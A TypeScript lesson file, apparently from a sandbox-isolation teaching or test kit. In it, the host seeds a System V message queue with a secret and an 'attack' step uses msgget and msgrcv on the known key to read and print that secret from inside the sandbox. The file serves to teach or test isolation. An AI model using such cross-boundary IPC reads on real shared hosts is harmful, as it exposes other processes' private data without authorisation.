/** Out of lesson 5: System V message queues have no path and no process. Whoever knows the number of one may ask for it. */
import { type BreakOut, execute } from 'tsrun/lessons/kit.ts';
import { syscall } from 'tsrun/linux/ffi.ts';
import { check } from 'tsrun/linux/fs.ts';

const key = 0x7473726e;
const secret = 'a message between processes of the host\n';
const IPC_CREAT = 0o1000;
const IPC_NOWAIT = 0o4000;
const IPC_RMID = 0;

/** struct msgbuf: a long for its type, and the text. */
const typeSize = 8;

export default {
  prepare() {
    const queue = check(syscall('msgget', key, IPC_CREAT | 0o600), 'msgget');
    const message = Buffer.from(`\u0001${'\0'.repeat(typeSize - 1)}${secret}`);
    check(syscall('msgsnd', queue, message, secret.length, IPC_NOWAIT), 'msgsnd');
    return () => void syscall('msgctl', queue, IPC_RMID, 0);
  },
  attack(b) {
    const queue = b.slot('queue');
    const message = b.reserve(256, 'message');
    b.call('msgget', [key, 0], { title: 'find the queue of the host', store: queue });
    b.call('msgrcv', [queue, message, 200, 0, IPC_NOWAIT], { title: 'take a message from it' });
    const text = { ...message, offset: message.offset + typeSize };
    b.call('write', [1, text, secret.length], { title: 'print it' });
    execute(b, ['true']);
  },
} satisfies BreakOut;
